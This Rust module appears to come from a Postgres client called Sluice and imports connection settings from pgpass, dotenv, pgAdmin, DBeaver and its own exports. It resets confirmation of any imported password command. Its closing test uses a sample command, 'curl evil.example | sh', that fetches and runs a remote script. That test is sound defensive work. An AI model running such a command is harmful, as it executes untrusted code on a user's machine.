//! One reader per format. Each turns a file (or the environment) into
//! candidates and skipped entries; a malformed entry is skipped with its
//! line or key, and the rest still import.

use super::{Candidate, Format, ImportError, Plan, Skipped};
use crate::conninfo::{self, pgpass, service, ConnInfo, Environment};
use crate::secret::Secret;
use crate::ssh::{Auth, Hop, Tunnel};
use crate::store::{NewConnection, Provider, Secrets};
use serde_json::Value;
use std::path::{Path, PathBuf};

/// Reads `format` from `path` (or its default file; `env` has no file).
pub fn read(format: Format, path: Option<&Path>, env: &Environment) -> Result<Plan, ImportError> {
    let mut plan = read_raw(format, path, env)?;
    // What the store would refuse (a certificate file that is not there,
    // a bad value) is skipped now, so a dry run tells the truth.
    let (ok, refused): (Vec<Candidate>, Vec<Candidate>) =
        plan.candidates.into_iter().partition(|c| c.new.check(c.secrets.client_key_pem.is_some()).is_ok());
    for c in refused {
        let reason = c.new.check(false).err().map_or_else(String::new, |e| e.to_string());
        plan.skipped.push(Skipped { source: c.source, reason });
    }
    plan.candidates = ok;
    // What the form would warn of (a file that is not there, which libpq
    // ignores) comes along as a note, so the preview says it too.
    for c in &mut plan.candidates {
        for issue in conninfo::validate(&c.new.name, &c.new.params, &[] as &[&str]).issues {
            if issue.severity == conninfo::Severity::Warning {
                c.notes.push(format!("{}: {}", issue.field, issue.message));
            }
        }
    }
    Ok(plan)
}

fn read_raw(format: Format, path: Option<&Path>, env: &Environment) -> Result<Plan, ImportError> {
    if format == Format::Env {
        return Ok(from_env(env));
    }
    let path: PathBuf = match path {
        Some(p) => p.to_owned(),
        None => format.default_file(env).ok_or_else(|| ImportError::Format(format!("give the {} file to read", format.as_str())))?,
    };
    let bytes = std::fs::read(&path).map_err(|error| ImportError::Read { path: path.display().to_string(), error })?;
    let text = String::from_utf8_lossy(&bytes);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let file = path.display().to_string();
    match format {
        Format::Pgpass => Ok(from_pgpass(text, &file)),
        Format::Service => Ok(from_service(text, &path)),
        Format::Dotenv => Ok(from_dotenv(text, &file)),
        Format::Pgadmin => from_pgadmin(&json(text, &file)?),
        Format::Dbeaver => from_dbeaver(&json(text, &file)?),
        Format::Json => from_sluice_json(&json(text, &file)?),
        Format::Env => Ok(from_env(env)),
    }
}

fn json(text: &str, file: &str) -> Result<Value, ImportError> {
    serde_json::from_str(text).map_err(|e| ImportError::Json { path: file.to_owned(), error: e.to_string() })
}

/// A connection's name: at most 64 characters, no control characters.
fn name_of(s: &str) -> String {
    let clean: String = s.chars().filter(|c| !c.is_control()).collect();
    let clean = clean.trim();
    let clean = if clean.is_empty() { "Imported" } else { clean };
    super::fit(clean, 64)
}

/// A candidate, with what its provider requires added (Neon and Supabase
/// refuse plain connections: a `.pgpass` line has no sslmode) and said.
fn candidate(name: &str, info: ConnInfo, password: Option<Secret>, source: String) -> Candidate {
    let provider = Provider::guess(info.get("host"));
    let mut params = info.without_secrets();
    let mut notes = Vec::new();
    for (k, v) in provider.add_required(&mut params) {
        notes.push(format!("{k}={v} added: {} requires it", provider.label()));
    }
    let new = NewConnection { name: name_of(name), provider, params, ..NewConnection::default() };
    let password = password.or_else(|| info.password().cloned()).filter(|p| !p.is_empty());
    Candidate { new, secrets: Secrets { password, ..Secrets::default() }, source, notes, duplicate_of: None }
}

/// `user@host/db`, with the port when it is not 5432.
fn label(info: &ConnInfo) -> String {
    let user = info.get("user").unwrap_or("");
    let host = info.get("host").or(info.get("hostaddr")).unwrap_or("localhost");
    let db = info.get("dbname").unwrap_or(user);
    let port = info.get("port").filter(|p| *p != "5432").map(|p| format!(":{p}")).unwrap_or_default();
    format!("{user}@{host}{port}/{db}")
}

fn from_pgpass(text: &str, file: &str) -> Plan {
    let mut plan = Plan::default();
    for e in pgpass::entries(text) {
        let source = format!("{file}:{}", e.line);
        let fields = [("host", &e.host), ("port", &e.port), ("database", &e.database), ("user", &e.user)];
        let wild: Vec<&str> = fields.iter().filter(|(_, f)| f.value().is_none()).map(|(n, _)| *n).collect();
        if !wild.is_empty() {
            plan.skipped.push(Skipped { source, reason: format!("a wildcard line (* for {}) matches many servers, not one; it still applies when testing", wild.join(", ")) });
            continue;
        }
        let mut info = ConnInfo::default();
        let mut bad = None;
        for (k, v) in [("host", &e.host), ("port", &e.port), ("dbname", &e.database), ("user", &e.user)] {
            if let Err(err) = info.set(k, v.value().unwrap_or_default()) {
                bad = Some(err.to_string());
            }
        }
        if e.port.value().is_some_and(|p| p.parse::<u16>().is_err()) {
            bad = Some(format!("port \"{}\" is not a number", e.port.value().unwrap_or_default()));
        }
        if let Some(reason) = bad {
            plan.skipped.push(Skipped { source, reason });
            continue;
        }
        let name = label(&info);
        plan.candidates.push(candidate(&name, info, Some(Secret::new(e.password.clone())), source));
    }
    plan
}

fn from_service(text: &str, path: &Path) -> Plan {
    let mut plan = Plan::default();
    let file = path.display().to_string();
    for (name, line, section) in service::sections(text, path) {
        let source = format!("{file}:{line}");
        match section {
            Err(e) => plan.skipped.push(Skipped { source, reason: e.to_string() }),
            Ok(s) => {
                let mut info = ConnInfo::default();
                let mut bad = None;
                for (k, v) in &s.values {
                    if let Err(e) = info.set(k, v.clone()) {
                        bad = Some(format!("{k}: {e}"));
                    }
                }
                match bad {
                    Some(reason) => plan.skipped.push(Skipped { source, reason }),
                    None => {
                        let mut c = candidate(&name, info, None, source);
                        c.notes.push(format!("also usable as service={name}"));
                        plan.candidates.push(c);
                    }
                }
            }
        }
    }
    plan
}

fn from_env(env: &Environment) -> Plan {
    let mut plan = Plan::default();
    let mut info = ConnInfo::default();
    let mut used = Vec::new();
    for kw in conninfo::keywords::KEYWORDS {
        let Some(var) = kw.env else { continue };
        if let Some(v) = env.var(var) {
            match info.set(kw.name, v) {
                Ok(()) => used.push(var),
                Err(e) => plan.skipped.push(Skipped { source: var.to_owned(), reason: e.to_string() }),
            }
        }
    }
    if used.is_empty() {
        plan.skipped.push(Skipped { source: "environment".into(), reason: "no PG* variable is set".into() });
        return plan;
    }
    let name = format!("Environment ({})", label(&info));
    let mut c = candidate(&name, info, None, "environment".into());
    c.notes.push(format!("from {}", used.join(", ")));
    plan.candidates.push(c);
    plan
}

fn is_postgres_url(v: &str) -> bool {
    let v = v.trim().to_ascii_lowercase();
    v.starts_with("postgres://") || v.starts_with("postgresql://")
}

fn from_dotenv(text: &str, file: &str) -> Plan {
    let mut plan = Plan::default();
    let (entries, bad) = super::dotenv::parse(text);
    for b in bad {
        plan.skipped.push(Skipped { source: format!("{file}:{}", b.line), reason: b.reason.into() });
    }
    let mut seen: Vec<&str> = Vec::new();
    for e in &entries {
        if seen.contains(&e.key.as_str()) || !is_postgres_url(&e.value) {
            continue;
        }
        seen.push(&e.key);
        let source = format!("{file}:{}", e.line);
        match conninfo::parse(e.value.trim()) {
            Ok(parsed) => {
                let mut c = candidate(&e.key, parsed.info, None, source);
                if super::dotenv::has_reference(&e.value) {
                    c.notes.push("read as written: Sluice does not fill in ${VAR} or $VAR (from its environment or from other lines)".into());
                }
                c.notes.extend(parsed.warnings);
                plan.candidates.push(c);
            }
            Err(err) => plan.skipped.push(Skipped { source, reason: format!("{} is not a valid Postgres URL: {err}", e.key) }),
        }
    }
    if plan.candidates.is_empty() && plan.skipped.is_empty() {
        plan.skipped.push(Skipped { source: file.to_owned(), reason: "no variable holds a postgres:// or postgresql:// URL".into() });
    }
    plan
}

/// A JSON value as a keyword's text (pgAdmin writes ints and strings).
fn text_of(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(if *b { "1" } else { "0" }.to_owned()),
        _ => None,
    }
}

fn from_pgadmin(doc: &Value) -> Result<Plan, ImportError> {
    let servers = doc.get("Servers").and_then(Value::as_object).ok_or_else(|| ImportError::Format("'Servers' attribute not found in the specified file.".into()))?;
    let mut plan = Plan::default();
    for (key, s) in servers {
        let source = format!("Servers.{key}");
        match pgadmin_server(s) {
            Ok(mut c) => {
                c.source = source;
                plan.candidates.push(c);
            }
            Err(reason) => plan.skipped.push(Skipped { source, reason }),
        }
    }
    Ok(plan)
}

fn pgadmin_server(s: &Value) -> Result<Candidate, String> {
    let field = |k: &str| s.get(k).and_then(text_of).filter(|v| !v.is_empty());
    let name = field("Name").ok_or("no Name")?;
    let mut info = ConnInfo::default();
    let mut notes = Vec::new();
    match (field("Host"), field("Service")) {
        (Some(h), _) => info.set("host", h).map_err(|e| e.to_string())?,
        (None, Some(svc)) => info.set("service", svc).map_err(|e| e.to_string())?,
        (None, None) => return Err(format!("'Host' or 'Service' attribute not found for server '{name}'")),
    }
    if let Some(p) = s.get("Port") {
        match p.as_u64().filter(|p| (1..=65535).contains(p)) {
            Some(p) => info.set("port", p.to_string()).map_err(|e| e.to_string())?,
            None => return Err(format!("Port must be integer for server '{name}'")),
        }
    }
    if let Some(db) = field("MaintenanceDB") {
        info.set("dbname", db).map_err(|e| e.to_string())?;
    }
    if let Some(u) = field("Username") {
        info.set("user", u).map_err(|e| e.to_string())?;
    }
    // pgAdmin 6.20+: ConnectionParameters, as is; before: flat keys.
    match s.get("ConnectionParameters").and_then(Value::as_object) {
        Some(params) => {
            for (k, v) in params {
                let Some(v) = text_of(v) else { continue };
                if conninfo::keywords::lookup(k).is_some_and(|kw| kw.secret) {
                    notes.push(format!("{k} is not imported (a secret)"));
                    continue;
                }
                if let Err(e) = info.set(k, v) {
                    notes.push(format!("{k} not taken: {e}"));
                }
            }
        }
        None => {
            for (flat, kw) in [("HostAddr", "hostaddr"), ("SSLMode", "sslmode"), ("PassFile", "passfile"), ("SSLCert", "sslcert"), ("SSLKey", "sslkey"), ("SSLRootCert", "sslrootcert"), ("SSLCrl", "sslcrl"), ("SSLCompression", "sslcompression"), ("Timeout", "connect_timeout")] {
                if let Some(v) = field(flat) {
                    if let Err(e) = info.set(kw, v) {
                        notes.push(format!("{flat} not taken: {e}"));
                    }
                }
            }
        }
    }
    if field("Role").is_some() {
        notes.push("pgAdmin's Role (SET ROLE after connecting) is not used by Sluice".into());
    }
    let exec = field("PasswordExecCommand");
    let group = field("Group").filter(|g| g != "Servers");
    let full = match group {
        Some(g) => format!("{g} / {name}"),
        None => name,
    };
    let mut c = candidate(&full, info, None, String::new());
    if s.get("UseSSHTunnel").and_then(Value::as_u64) == Some(1) {
        if let Some(host) = field("TunnelHost") {
            let hop = Hop {
                host,
                port: s.get("TunnelPort").and_then(Value::as_u64).and_then(|p| u16::try_from(p).ok()).filter(|p| *p != 22),
                user: field("TunnelUsername"),
                auth: if s.get("TunnelAuthentication").and_then(Value::as_u64) == Some(1) { Auth::Key } else { Auth::Password },
                identity: field("TunnelIdentityFile").map(PathBuf::from),
                host_key: None,
            };
            c.new.ssh = Some(Tunnel { hops: vec![hop], known_hosts: None, ..Default::default() });
        }
    }
    match exec.map(|cmd| shell_words::split(&cmd).map_err(|e| (cmd, e))) {
        Some(Ok(argv)) if !argv.is_empty() => {
            notes.push(format!("its PasswordExecCommand becomes the password command, run as these words: {}; it runs only after you confirm it", shell_words::join(&argv)));
            c.new.password_command = Some(crate::connection::PasswordCommand { argv, preset: None, confirmed: false });
        }
        Some(Err((cmd, e))) => notes.push(format!("PasswordExecCommand \"{cmd}\" is not taken: {e}")),
        _ => notes.push("pgAdmin exports no passwords: enter it, or use the password file".into()),
    }
    c.notes.extend(notes);
    Ok(c)
}

fn from_dbeaver(doc: &Value) -> Result<Plan, ImportError> {
    let conns = doc.get("connections").and_then(Value::as_object).ok_or_else(|| ImportError::Format("no 'connections' object: not a DBeaver data-sources.json".into()))?;
    let mut plan = Plan::default();
    for (id, c) in conns {
        let source = format!("connections.{id}");
        let provider = c.get("provider").and_then(Value::as_str).unwrap_or("");
        let driver = c.get("driver").and_then(Value::as_str).unwrap_or("");
        if provider != "postgresql" && !driver.starts_with("postgres") {
            plan.skipped.push(Skipped { source, reason: format!("not PostgreSQL ({})", if provider.is_empty() { driver } else { provider }) });
            continue;
        }
        match dbeaver_connection(c) {
            Ok(mut cand) => {
                cand.source = source;
                plan.candidates.push(cand);
            }
            Err(reason) => plan.skipped.push(Skipped { source, reason }),
        }
    }
    Ok(plan)
}

fn dbeaver_connection(c: &Value) -> Result<Candidate, String> {
    let conf = c.get("configuration").ok_or("no configuration")?;
    let s = |v: &Value, k: &str| v.get(k).and_then(text_of).filter(|x| !x.is_empty());
    let mut info = ConnInfo::default();
    let url_mode = s(conf, "configurationType").as_deref() == Some("URL");
    let jdbc = s(conf, "url");
    if let (true, Some(url)) = (url_mode, &jdbc) {
        let rest = url.strip_prefix("jdbc:").ok_or_else(|| format!("not a JDBC URL: {url}"))?;
        // JDBC parameters (after '?') are pgjdbc's, not libpq's.
        let parsed = conninfo::parse(rest.split('?').next().unwrap_or(rest)).map_err(|e| format!("the JDBC URL: {e}"))?;
        info = parsed.info.without_secrets();
    } else {
        for (k, kw) in [("host", "host"), ("port", "port"), ("database", "dbname")] {
            if let Some(v) = s(conf, k) {
                info.set(kw, v).map_err(|e| e.to_string())?;
            }
        }
    }
    if !info.is_set("host") {
        return Err("no host".into());
    }
    if let Some(u) = s(conf, "user").or_else(|| conf.get("credentials").and_then(|cr| s(cr, "user"))) {
        info.set("user", u).map_err(|e| e.to_string())?;
    }
    let mut notes = vec!["DBeaver keeps credentials encrypted in another file: enter the password".to_owned()];
    if let Some(props) = conf.pointer("/handlers/postgre_ssl").filter(|h| h.get("enabled").and_then(Value::as_bool) == Some(true)).and_then(|h| h.get("properties")) {
        if let Some(m) = s(props, "sslMode") {
            let _ = info.set("sslmode", m);
        }
        for (keys, kw) in [(["ssl.ca.cert", "rootCert"], "sslrootcert"), (["ssl.client.cert", "clientCert"], "sslcert"), (["ssl.client.key", "clientKey"], "sslkey")] {
            if let Some(v) = keys.iter().find_map(|k| s(props, k)) {
                let _ = info.set(kw, v);
            }
        }
    }
    let folder = c.get("folder").and_then(Value::as_str).filter(|f| !f.is_empty());
    let name = c.get("name").and_then(Value::as_str).unwrap_or("DBeaver connection");
    let full = match folder {
        Some(f) => format!("{f} / {name}"),
        None => name.to_owned(),
    };
    let mut cand = candidate(&full, info, None, String::new());
    if let Some(h) = conf.pointer("/handlers/ssh_tunnel").filter(|h| h.get("enabled").and_then(Value::as_bool) == Some(true)) {
        if let Some(props) = h.get("properties") {
            if let Some(host) = s(props, "host") {
                let auth = match s(props, "authType").as_deref() {
                    Some("PUBLIC_KEY") => Auth::Key,
                    Some("AGENT") => Auth::Agent,
                    Some("PASSWORD") => Auth::Password,
                    _ => Auth::Auto,
                };
                let hop = Hop {
                    host,
                    port: s(props, "port").and_then(|p| p.parse().ok()).filter(|p| *p != 22),
                    user: None,
                    auth,
                    identity: s(props, "keyPath").map(PathBuf::from),
                    host_key: None,
                };
                cand.new.ssh = Some(Tunnel { hops: vec![hop], known_hosts: None, ..Default::default() });
                notes.push("the SSH user is in DBeaver's encrypted credentials: set it".into());
            }
        }
    }
    cand.notes.extend(notes);
    Ok(cand)
}

/// Sluice's own export (see `export.rs`).
fn from_sluice_json(doc: &Value) -> Result<Plan, ImportError> {
    let list = doc.get("connections").and_then(Value::as_array).ok_or_else(|| ImportError::Format("no 'connections' array: not a Sluice export".into()))?;
    let mut plan = Plan::default();
    for (i, v) in list.iter().enumerate() {
        let source = format!("connections[{i}]");
        match serde_json::from_value::<NewConnection>(v.clone()) {
            Ok(mut new) => {
                // A file can say anything, "confirmed" included: a command
                // from one runs only after the user has read and confirmed it.
                let mut notes = Vec::new();
                if let Some(cmd) = new.password_command.as_mut() {
                    cmd.confirmed = false;
                    notes.push(format!("its password command ({}) runs only after you confirm it", cmd.line()));
                }
                // Likewise the trust a file sets for the SSH hosts: a pinned
                // key is trusted instead of known_hosts, and accepted keys are
                // written to its known_hosts file.
                if let Some(t) = new.ssh.as_mut() {
                    t.unconfirmed = t.sets_trust();
                    for (i, h) in t.hops.iter().enumerate() {
                        if let Some(k) = &h.host_key {
                            let shown = crate::ssh::known_hosts::parse_key(k)
                                .map(|k| { let p = crate::ssh::known_hosts::present(&k); format!("{} {}", p.key_type, p.fingerprint) })
                                .unwrap_or_else(|_| "a key that does not parse".into());
                            notes.push(format!("it pins the host key of SSH hop {} ({}) to {shown}: trusted only after you confirm it", i + 1, h.display()));
                        }
                    }
                    if let Some(f) = &t.known_hosts {
                        notes.push(format!("it names {} as its known_hosts file: used only after you confirm it", f.display()));
                    }
                }
                plan.candidates.push(Candidate { new, secrets: Secrets::default(), source, notes, duplicate_of: None })
            }
            Err(e) => plan.skipped.push(Skipped { source, reason: e.to_string() }),
        }
    }
    Ok(plan)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_password_command_from_a_sluice_file_is_never_taken_as_confirmed() {
        // Whatever the file says: `confirmed` is the user's word, not the file's.
        for confirmed in [serde_json::json!(true), serde_json::Value::Null] {
            let mut cmd = serde_json::json!({"argv": ["sh", "-c", "curl evil.example | sh"]});
            if !confirmed.is_null() {
                cmd["confirmed"] = confirmed;
            }
            let doc = serde_json::json!({"connections": [{"name": "x", "params": {"host": "db"}, "password_command": cmd}]});
            let plan = from_sluice_json(&doc).unwrap();
            let c = &plan.candidates[0];
            assert!(!c.new.password_command.as_ref().unwrap().confirmed, "{cmd}");
            assert!(c.notes.iter().any(|n| n.contains("runs only after you confirm it")), "{:?}", c.notes);
        }
    }
}
